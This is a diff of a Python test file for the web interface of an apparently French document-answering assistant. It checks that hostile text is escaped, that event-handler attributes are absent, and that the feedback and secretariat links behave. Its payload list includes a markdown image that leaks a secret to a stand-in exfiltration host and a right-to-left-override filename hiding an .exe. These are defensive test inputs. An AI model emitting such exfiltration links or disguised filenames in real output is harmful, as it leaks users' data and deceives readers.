@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from dataclasses import replace
+from datetime import date
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -12,8 +13,21 @@ from rag.errors import ModelError, NoStore
 from rag.types import Answer, Finished, Language, Queued, Reading, Retrieved, Source, Token
 from tests.browser.scripted import HOSTILE, PATH, QUOTE, ScriptedAssistant, make_pdf
 from ui.exchange import Exchange, advance, history
+from ui.history.archive import Entry
+from ui.identity import Member
 from ui.strings import THIN
-from ui.view import escape, exchange_html, header_html, marks_html, notice_html, panel_html, status_html
+from ui.view import Reader as AddressedTo
+from ui.view import (
+    entries_html,
+    escape,
+    exchange_html,
+    header_html,
+    marks_html,
+    notice_html,
+    panel_html,
+    place_html,
+    status_html,
+)
 
 PAYLOADS = [
     "![x](http://exfil.example/p.png?d=secret)",
@@ -30,9 +44,10 @@ PAYLOADS = [
     "\u202egnp.exe\u2066",
 ]
 
+FR, EN = AddressedTo("fr"), AddressedTo("en")
 OURS = frozenset(
     "article div h2 h3 p span s button small br strong details summary ul li blockquote figure figcaption svg rect "
-    "img nav a".split()
+    "img nav a form label input textarea".split()
 )
 
 
@@ -69,7 +84,7 @@ def _answer(assistant: ScriptedAssistant, question: str = "Quelle épaisseur ?")
 
 
 def _shown(answer: Answer) -> Reader:
-    return Reader(exchange_html(Exchange(1, answer.question, "done", answer=answer), "fr"))
+    return Reader(exchange_html(Exchange(1, answer.question, "done", answer=answer), FR))
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -103,9 +118,16 @@ def test_hostile_text_is_shown_as_text_wherever_it_stands(assistant: ScriptedAss
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_hostile_draft_question_or_name_stays_text(payload: str) -> None:
     exchange = Exchange(1, payload, "writing", draft=payload)
-    for markup in (exchange_html(exchange, "fr"), header_html(payload, "fr"), status_html(payload, None, "en")):
+    hostile = Member(3, payload, "admin", None)
+    entries = entries_html([Entry("a1", payload, 0.0)], "fr", "a1", date(2026, 11, 25), False)
+    for markup in (
+        exchange_html(exchange, FR), header_html(payload, "fr", hostile), status_html(payload, None, "en"), entries,
+        place_html("a1", payload), exchange_html(replace(exchange, phase="stopped"), FR),
+    ):  # fmt: skip
         reader = Reader(markup)
-        assert {name for name, _ in reader.elements} <= {"article", "div", "h2", "p", "header", "a", "h1"}
+        names = {name for name, _ in reader.elements}
+        assert names <= {*OURS, "header", "h1", "path"}
+        assert not [key for _, attributes in reader.elements for key in attributes if key.startswith("on")]
         assert not set("`{}[]*!") & set(markup.replace("&#", ""))
 
 
@@ -137,7 +159,7 @@ def test_the_highlight_is_drawn_in_points_of_the_page(assistant: ScriptedAssista
 
 def test_an_unsupported_claim_is_struck_out_with_its_reason(assistant: ScriptedAssistant) -> None:
     reader = _shown(_answer(assistant))
-    struck = [attributes for name, attributes in reader.elements if name == "s"]
+    struck = [attributes for name, attributes in reader.elements if name == "s" and "title" in attributes]
     assert len(struck) == 1
     assert "aucune source ne parle de couleur" in (struck[0]["title"] or "")
     assert "Les phrases barrées" in reader.text
@@ -171,24 +193,24 @@ def test_the_status_says_who_answers() -> None:
 
 def test_english_is_english_throughout(assistant: ScriptedAssistant) -> None:
     answer = _answer(assistant)
-    reader = Reader(exchange_html(Exchange(1, "q", "done", answer=answer), "en"))
+    reader = Reader(exchange_html(Exchange(1, "q", "done", answer=answer), EN))
     assert "Other passages read (1)" in reader.text
     assert "1.2 s" in reader.text
-    assert all("?lang=en" in address for address in reader.attributes("href") + reader.attributes("data-src"))
+    assert all("lang=en" in address for address in reader.attributes("href") + reader.attributes("data-src"))
     assert "Touch a number" in Reader(panel_html("en")).text
 
 
 def test_an_exchange_follows_its_events() -> None:
     exchange = advance(Exchange(1, "q"), Retrieved("q", ()))
-    assert "Lecture des passages" in exchange_html(exchange, "fr")
+    assert "Lecture des passages" in exchange_html(exchange, FR)
     exchange = advance(advance(exchange, Token("Un ")), Token("mot"))
     assert exchange.draft == "Un mot"
-    assert "pas encore vérifié" in exchange_html(exchange, "fr")
-    assert "n'a pas été vérifié" in Reader(exchange_html(replace(exchange, phase="stopped"), "fr")).text
+    assert "pas encore vérifié" in exchange_html(exchange, FR)
+    assert "n'a pas été vérifié" in Reader(exchange_html(replace(exchange, phase="stopped"), FR)).text
     waiting = replace(Exchange(1, "q", "searching"), elapsed=7)
-    assert f"7{' '}s" in exchange_html(waiting, "fr")
+    assert f"7{' '}s" in exchange_html(waiting, FR)
     failed = replace(exchange, phase="failed", error=ModelError("Le modèle a échoué.", "The model failed."))
-    assert "Le modèle a échoué." in Reader(exchange_html(failed, "fr")).text
+    assert "Le modèle a échoué." in Reader(exchange_html(failed, FR)).text
 
 
 def test_only_answered_exchanges_count_as_history(assistant: ScriptedAssistant) -> None:
@@ -208,7 +230,9 @@ def test_escape_keeps_french_and_drops_control_characters() -> None:
 
 def test_static_files_are_there() -> None:
     static = Path(__file__).resolve().parent.parent / "ui" / "static"
-    assert {"greffier.css", "greffier.js", "greffier.svg"} <= {file.name for file in static.iterdir()}
+    assert {"greffier.css", "greffier.js", "evidence.js", "drawer.js", "feedback.js", "greffier.svg"} <= {
+        file.name for file in static.iterdir()
+    }
 
 
 @pytest.mark.parametrize(
@@ -224,8 +248,8 @@ def test_who_waits_reads_how_many_go_before_and_about_how_long(
     position: int, seconds: float | None, french: str, english: str
 ) -> None:
     exchange = advance(Exchange(1, "q", elapsed=20), Queued(position, seconds))
-    assert french in Reader(exchange_html(exchange, "fr")).text
-    assert english in Reader(exchange_html(exchange, "en")).text
+    assert french in Reader(exchange_html(exchange, FR)).text
+    assert english in Reader(exchange_html(exchange, EN)).text
 
 
 def test_reading_shows_that_passages_are_read_and_does_not_hide_what_is_written() -> None:
@@ -237,9 +261,9 @@ def test_reading_shows_that_passages_are_read_and_does_not_hide_what_is_written(
 
 def test_an_answer_from_memory_says_so(assistant: ScriptedAssistant) -> None:
     answer = _answer(assistant)
-    assert "déjà écrite" not in Reader(exchange_html(Exchange(1, "q", "done", answer=answer), "fr")).text
+    assert "déjà écrite" not in Reader(exchange_html(Exchange(1, "q", "done", answer=answer), FR)).text
     again = Exchange(1, "q", "done", answer=replace(answer, cached=True))
-    assert "réponse déjà écrite" in Reader(exchange_html(again, "fr")).text
+    assert "réponse déjà écrite" in Reader(exchange_html(again, FR)).text
 
 
 def test_a_broken_model_is_named_beside_the_extracts() -> None:
@@ -266,7 +290,7 @@ def test_who_reads_an_old_version_is_told_of_the_newer_one(
     answer = _answer(assistant)
     newer = Source("public/guide 2025.pdf", "00", "Guide <i>2025</i>")
     answer = replace(answer, citations=(replace(answer.citations[0], newer=newer), *answer.citations[1:]))
-    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), language))
+    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), AddressedTo(language)))
     assert beside in plain(page.text) and above in plain(page.text)
     query = "?lang=en" if language == "en" else ""
     assert f"/document/public/guide%202025.pdf{query}" in page.attributes("href")
@@ -277,6 +301,28 @@ def test_who_reads_the_newest_version_is_told_of_the_older_one_beside_the_source
     answer = _answer(assistant)
     older = Source("guide 2023.pdf", "00", "Guide 2023")
     answer = replace(answer, citations=(replace(answer.citations[0], older=older), *answer.citations[1:]))
-    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), "fr"))
+    page = Reader(exchange_html(Exchange(1, "?", "done", answer=answer), FR))
     assert "Une version plus ancienne existe : Guide 2023" in plain(page.text)
     assert "ancienne version." not in page.text
+
+
+def test_who_is_refused_is_led_to_the_secretariat_where_there_is_one(assistant: ScriptedAssistant) -> None:
+    refused = Exchange(1, "Quel prix & quoi ?", "done", answer=_answer(assistant, "Quel prix ?"))
+    plain_ = Reader(exchange_html(refused, FR))
+    assert "Poser la question au secrétariat" in plain_.text and "named" not in plain_.attributes("name")
+    known = Reader(exchange_html(refused, replace(FR, secretariat="bureau@asso.fr", signed_in=True)))
+    assert "named" in known.attributes("name")
+    assert [a for a in known.attributes("href") if a.startswith("mailto:")] == [
+        "mailto:bureau@asso.fr?subject=Question%20sans%20r%C3%A9ponse%20dans%20les%20documents"
+        "&body=Quel%20prix%20%26%20quoi%20%3F"
+    ]
+    assert "secrétariat" not in Reader(exchange_html(refused, replace(FR, sends=False))).text.partition("sinon")[0]
+    assert "transmise" in Reader(exchange_html(replace(refused, sent=True), FR)).text
+
+
+def test_what_was_said_of_an_answer_stays_pressed(assistant: ScriptedAssistant) -> None:
+    exchange = Exchange(1, "q", "done", answer=_answer(assistant), reported="out_of_date")
+    pressed = {
+        a["data-kind"]: a["aria-pressed"] for _, a in Reader(exchange_html(exchange, FR)).elements if "data-kind" in a
+    }
+    assert pressed == {"useful": "false", "not_useful": "false", "wrong_source": "false", "out_of_date": "true"}
